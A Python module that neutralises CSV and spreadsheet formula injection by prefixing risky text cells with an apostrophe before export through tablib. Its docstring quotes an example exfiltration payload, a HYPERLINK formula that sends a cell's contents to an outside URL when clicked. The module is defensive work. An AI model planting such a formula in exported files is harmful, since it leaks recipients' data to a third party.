"""The one formula neutraliser: every spreadsheet or CSV file the application produces passes its cells
through ``neutralise_formula`` (directly, or through ``neutralised`` / ``spreadsheet_file``).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return may be run as a formula
by Excel or LibreOffice (CSV injection, OWASP): ``=HYPERLINK("http://…?leak="&A1,"Klick")`` sends the
sheet's data away when clicked. Such text gets a leading apostrophe, OWASP's advice, so it is shown as the
text it is. Numbers and dates are left alone (they are not text), and so is text that is just a negative
number ("-3", "-1,5"): it cannot do anything but be a number.
"""

import re

import tablib

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NEGATIVE_NUMBER = re.compile(r"-\d+(?:[.,]\d+)?")


def neutralise_formula(value):
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _NEGATIVE_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralised(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of the dataset with every cell (and column title) neutralised."""
    safe = tablib.Dataset(
        headers=[neutralise_formula(h) for h in dataset.headers] if dataset.headers else None,
        title=dataset.title,
    )
    for row in dataset:
        safe.append([neutralise_formula(value) for value in row])
    return safe


CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
}


def spreadsheet_file(dataset: tablib.Dataset, file_format: str, *, delimiter: str = ";") -> bytes:
    """The dataset, neutralised, as a CSV, XLSX or ODS file. CSV is UTF-8 with a byte order mark, so German
    Excel reads the names' accents ("ş", "ễ") correctly."""
    safe = neutralised(dataset)
    if file_format == "csv":
        return ("\ufeff" + safe.export("csv", delimiter=delimiter)).encode("utf-8")
    if file_format not in CONTENT_TYPES:
        raise ValueError(f"unknown spreadsheet format {file_format!r}")
    return safe.export(file_format)
